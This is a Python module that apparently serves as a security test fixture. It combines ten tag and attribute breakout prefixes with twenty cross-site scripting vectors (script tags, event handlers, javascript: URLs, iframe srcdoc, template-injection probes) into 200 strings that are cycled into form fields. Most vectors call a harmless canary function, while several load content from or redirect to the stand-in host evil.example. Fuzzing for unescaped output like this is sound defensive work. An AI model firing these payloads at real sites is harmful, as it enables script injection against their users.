"""Two hundred texts that would run in a page which forgot to escape one, in lines of a design's length."""

from __future__ import annotations

from itertools import cycle

WAYS_OUT = ("", '">', "'>", "</textarea>", "</title></style>", "</script>", "-->", "]]>", "`>", "\u2028</p>")
VECTORS = (
    "<script>canary(1)</script>",
    "<img src=x onerror=canary(1)>",
    "<svg onload=canary(1)>",
    "<svg><script>canary(1)</script></svg>",
    '<iframe srcdoc="<script>parent.canary(1)</script>">',
    "<iframe src=javascript:parent.canary(1)>",
    "<a href=javascript:canary(1) data-canary>x</a>",
    "<body onload=canary(1) data-canary>",
    "<input autofocus onfocus=canary(1)>",
    "<details open ontoggle=canary(1)>",
    "<math><mi data-canary>x</mi></math>",
    "<style>@import'//evil.example/a'</style>",
    "<link rel=stylesheet href=//evil.example/b>",
    "<base href=//evil.example/ data-canary>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<object data=//evil.example/c>",
    "<form action=//evil.example data-canary>",
    "<video><source onerror=canary(1)></video>",
    "<button popover data-canary>{{ 7|add:7 }}",
    "<img src=//evil.example/d.png data-canary>",
)
PAYLOADS = tuple(way + vector for vector in VECTORS for way in WAYS_OUT)
LINE = 280  # characters; a line of a design holds 300


def lines() -> tuple[str, ...]:
    """All payloads, as many in a line as fit."""
    made = [""]
    for payload in PAYLOADS:
        if len(made[-1]) + len(payload) > LINE:
            made.append("")
        made[-1] += payload
    return tuple(made)


class Filler:
    """Gives the next line to whoever asks; `first` decides which payload meets which field."""

    def __init__(self, first: int) -> None:
        every = lines()
        self._next = cycle(every[first % len(every) :] + every[: first % len(every)])

    def __call__(self) -> str:
        return next(self._next)
